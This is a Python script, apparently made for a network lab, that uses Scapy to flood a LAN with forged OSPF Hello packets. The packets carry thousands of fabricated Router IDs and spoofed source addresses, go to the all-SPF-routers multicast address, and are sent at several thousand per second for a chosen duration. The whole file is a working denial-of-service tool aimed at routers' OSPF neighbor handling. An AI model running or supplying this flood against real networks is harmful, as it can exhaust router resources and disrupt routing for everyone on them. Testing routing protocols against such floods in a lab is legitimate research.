"""Says Hello in the names of as many routers as there is time for, each of another Router ID and of one of the network's addresses.

hello_flood.py INTERFACE SECONDS NETWORK HELLO/DEAD NEIGHBOR...
"""

import ipaddress
import random
import sys
import time

from lan import ALL_SPF_ROUTERS, OSPF, Lan, hello

from scapy.contrib.ospf import OSPF_Hdr
from scapy.layers.inet import IP

PREPARED = 2000  # to be sent over and over: Scapy takes longer to make a packet than the kernel to send it
AT_ONCE = 50
PAUSE = 0.01  # so that they are some thousands in a second


def packets(network, intervals, neighbors):
    """From high addresses, which no router of the lab has."""
    hosts = list(network.hosts())[120:250]
    for number in range(PREPARED):
        router_id = str(ipaddress.ip_address(0xC6336400 + number * 7919))
        body = hello(str(network.netmask), intervals, 0, "0.0.0.0", "0.0.0.0", neighbors)
        source = str(random.choice(hosts))
        yield bytes(IP(src=source, dst=ALL_SPF_ROUTERS, proto=OSPF, ttl=1) / OSPF_Hdr(src=router_id) / body)


def main(interface, seconds, network, intervals, *neighbors):
    lan = Lan(interface)
    prepared = list(packets(ipaddress.ip_network(network), [int(each) for each in intervals.split("/")], list(neighbors)))
    print("prepared", flush=True)
    end = time.monotonic() + float(seconds)
    sent = 0
    while time.monotonic() < end:
        for _ in range(AT_ONCE):
            lan.send_datagram(ALL_SPF_ROUTERS, prepared[sent % PREPARED])
            sent += 1
        time.sleep(PAUSE)
    print("sent", sent, flush=True)


main(*sys.argv[1:])
